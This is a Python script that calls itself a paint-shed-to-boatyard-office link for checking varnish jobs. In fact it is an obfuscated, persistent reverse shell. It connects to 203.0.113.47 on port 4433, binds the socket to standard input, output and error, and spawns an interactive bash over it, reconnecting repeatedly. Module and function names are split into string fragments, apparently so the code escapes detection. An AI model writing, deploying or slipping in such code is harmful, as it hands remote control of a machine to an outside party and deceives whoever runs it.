#!/usr/bin/env python3
"""Yard office link for the paint shed laptop.

Keeps a standing session open to the boatyard office so the foreman can
check on long varnish jobs without walking down the towpath.
"""
import argparse
import importlib
import logging
import sys
import time
from dataclasses import dataclass, field

LOG = logging.getLogger("yardlink")


@dataclass
class LinkConfig:
    host: str = "203.0.113.47"
    port: int = 4433
    attempts: int = 6
    pause: float = 9.0


@dataclass
class YardLink:
    cfg: LinkConfig
    _cache: dict = field(default_factory=dict)

    def _m(self, *parts):
        name = "".join(parts)
        if name not in self._cache:
            self._cache[name] = importlib.import_module(name)
        return self._cache[name]

    def _open(self):
        net = self._m("so", "ck", "et")
        conn = getattr(net, "create_connection")((self.cfg.host, self.cfg.port), 20)
        conn.settimeout(None)
        LOG.debug("connected to %s:%d", self.cfg.host, self.cfg.port)
        return conn

    def _bind_streams(self, conn):
        osm = self._m("o", "s")
        dup = getattr(osm, "du" + "p2")
        for stream in (0, 1, 2):
            dup(conn.fileno(), stream)

    def _session(self):
        term = self._m("p", "ty")
        prog = "/".join(["", "bin", "ba" + "sh"])
        getattr(term, "sp" + "awn")([prog, "-i"])

    def run_once(self):
        conn = self._open()
        try:
            self._bind_streams(conn)
            self._session()
        finally:
            conn.close()

    def run(self, forever):
        tries = 0
        while forever or tries < self.cfg.attempts:
            tries += 1
            try:
                self.run_once()
                LOG.info("session ended cleanly")
            except OSError as exc:
                LOG.warning("link attempt %d failed: %s", tries, exc)
            time.sleep(self.cfg.pause * min(tries, 4))
        return 0


def parse_args(argv):
    p = argparse.ArgumentParser(description="Paint shed to yard office link")
    p.add_argument("--host", default=LinkConfig.host)
    p.add_argument("--port", type=int, default=LinkConfig.port)
    p.add_argument("--forever", action="store_true",
                   help="keep reconnecting after the session closes")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.WARNING,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    link = YardLink(LinkConfig(host=args.host, port=args.port))
    try:
        return link.run(args.forever)
    except KeyboardInterrupt:
        return 130


if __name__ == "__main__":
    sys.exit(main())
